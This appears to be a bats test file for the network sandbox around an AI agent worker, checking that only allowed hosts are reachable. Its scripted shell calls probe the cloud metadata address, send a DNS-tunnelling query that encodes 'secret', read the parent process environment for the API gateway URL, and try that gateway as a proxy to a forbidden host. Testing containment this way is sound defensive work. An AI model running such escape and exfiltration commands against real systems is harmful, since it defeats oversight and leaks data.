# A worker inside, and the rest of the network: what is allowed is reached, nothing else is, and the gateway is no way
# around.
# parallel-safe
# timeout: 120
load ../egress/lib
load lib

setup_file() { world_begin; }
teardown_file() { world_end; }
setup() {
	[ -z "${WORLD_LACKS:-}" ] || skip "$WORLD_LACKS"
	worker_setup
	# Of the world that the egress tests have, and through it the control plane and the worker.
	curl() { at_host curl "$@"; }
	python3() { at_host python3 "$@"; }
	timeout() { at_host timeout "$@"; }
}
teardown() {
	# The stub is the child of the shell that went into the world for it.
	[ -z "${STUB_PID:-}" ] || pkill -P "$STUB_PID" || true
	worker_teardown
}

@test "an allowed host answers 200, another one 403 or not at all; metadata addresses, raw addresses and foreign resolvers are closed" {
	need_sdk '{"networking":{"allowed_hosts":["web.one.test"],"explain_denied":true,"resolver":"9.9.9.53"}}'
	new_session
	local calls before
	calls=$(
		sh_call 'curl -s -o /dev/null -w "%{http_code}" -m 20 http://web.one.test/'
		sh_call 'curl -s -o /dev/null -w "%{http_code}" -m 20 http://secret.other.test/; curl -s -m 20 http://secret.other.test/ | grep -o secret.other.test | head -n 1'
		sh_call 'for a in 169.254.169.254 9.9.9.66 10.20.0.1 [2600:9::66] [fd20::1]; do curl -s -o /dev/null -m 20 http://$a/; echo $?; done | sort -u | tr "\n" " "'
		sh_call 'python3 -c "
import socket, struct
q = struct.pack(\">HHHHHH\", 7, 256, 1, 0, 0, 0) + b\"\".join(bytes([len(l)]) + l for l in b\"c2VjcmV0.tunnel.other.test\".split(b\".\")) + b\"\0\0\x10\0\1\"
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(20)
s.sendto(q, (\"9.9.9.53\", 53)); print(s.recv(512)[7])
"'
		sh_call 'B=$(tr "\0" "\n" </proc/$PPID/environ | sed -n "s/^ANTHROPIC_BASE_URL=//p"); curl -s -o /dev/null -w "%{http_code}" -x $B http://secret.other.test/; curl -s -o /dev/null -w "%{http_connect}" -p -x $B http://secret.other.test/ || true'
	)
	start_stub "[$(session "$(jq -cs . <<<"$calls")")]"
	before=$(grep -c tunnel "$WORLD/dns.log" || true)
	run_worker --config "$CONFIG" -- "${INSIDE[@]}"
	assert_equal "$status" 0
	assert_no_violations
	assert_equal "$(result_text 0)" 200
	assert_equal "$(result_text 1)" $'403secret.other.test'
	# 7: refused at once.
	assert_equal "$(result_text 2)" '7 '
	# No answer, and nobody outside was asked.
	assert_equal "$(result_text 3)" 0
	[ "$(grep -c tunnel "$WORLD/dns.log" || true)" = "$before" ]
	assert_equal "$(result_text 4)" 400400
	assert_put_away
}
